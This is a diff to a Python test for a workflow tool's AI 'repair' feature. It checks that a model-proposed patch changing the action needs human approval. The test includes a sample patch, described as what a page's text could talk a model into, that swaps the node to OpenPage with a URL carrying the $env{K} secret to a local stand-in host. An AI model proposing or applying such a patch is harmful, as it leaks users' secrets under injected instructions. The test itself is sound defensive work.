@@ -59,36 +59,43 @@ def test_a_generated_workflow_validates_and_runs_against_the_demo_shop(tmp_path:
 
 
 def test_repair_applies_on_yes_and_only_suggests_otherwise(tmp_path: Path) -> None:
-    wf = tmp_path / "needs_n.json"
-    wf.write_text(
-        json.dumps(
-            flow(
-                node(
-                    "a",
-                    "PyEvalAction",
-                    inputs={"expr": "param1 + 1", "param1": "$global{n}"},
-                    outputs=[{"src": "result", "name": "total", "pos": "global"}],
-                    params={"next_node": "__end__"},
-                )
-            )
-        )
-    )
+    wf = tmp_path / "slow.json"
+    slow = flow(node("a", "SleepFor", inputs={"duration": 30}, params={"next_node": "__end__"}))
+    slow["nodes"][0]["timeout"] = 0.3  # fails: a shorter sleep is a change a model may make
+    wf.write_text(json.dumps(slow))
     runs = []
-    for _ in range(2):
+    for _ in range(3):
         failed = weboter("run", str(wf), "--on-error", "pause", "--json", home=tmp_path)
         runs.append(json.loads(failed.stdout)["run_id"])
         assert json.loads(failed.stdout)["status"] == "ERROR"
     fix = json.dumps(
-        {"kind": "set_variables", "variables": {"$global{n}": 1}, "reason": "n is not set"}
+        {"kind": "patch", "changes": {"inputs": {"duration": 0.01}}, "reason": "sleep less"}
     )
-    with ModelServer([Reply(fix), Reply(fix)]) as model:
+    away = json.dumps(  # what a page's text could talk a model into
+        {
+            "kind": "patch",
+            "changes": {"action": "OpenPage", "inputs": {"url": "http://127.0.0.1:9/?k=$env{K}"}},
+            "reason": "the page says so",
+            "confidence": 0.99,
+        }
+    )
+    with ModelServer([Reply(fix), Reply(away), Reply(fix)]) as model:
         applied = weboter("repair", runs[0], "--yes", "--json", home=tmp_path, env=model.env())
-        asked = weboter("repair", runs[1], "--json", home=tmp_path, env=model.env())
+        refused = weboter("repair", runs[1], "--yes", "--json", home=tmp_path, env=model.env())
+        asked = weboter("repair", runs[2], "--json", home=tmp_path, env=model.env())
     assert applied.returncode == 0, applied.stderr
     assert json.loads(applied.stdout)["applied"] is True
     done = weboter("continue", runs[0], "--json", home=tmp_path)
     assert json.loads(done.stdout)["status"] == "COMPLETED"
-    assert json.loads(done.stdout)["variables"]["total"] == 2
+    # --yes applies only what a model may change alone: a new action waits for a person
+    assert refused.returncode == 1
+    said = json.loads(refused.stdout)
+    assert said["applied"] is False
+    assert said["needs_approval"] == (
+        "needs approval: it changes the action from SleepFor to OpenPage"
+    )
+    state = json.loads(weboter("state", runs[1], "--json", home=tmp_path).stdout)
+    assert state["status"] == "ERROR" and state["waiting_for"] == said["needs_approval"]
     assert json.loads(asked.stdout)["applied"] is False  # no terminal to confirm on, no --yes
     history = json.loads(weboter("history", runs[1], "--json", home=tmp_path).stdout)["events"]
     types = [e["type"] for e in history]
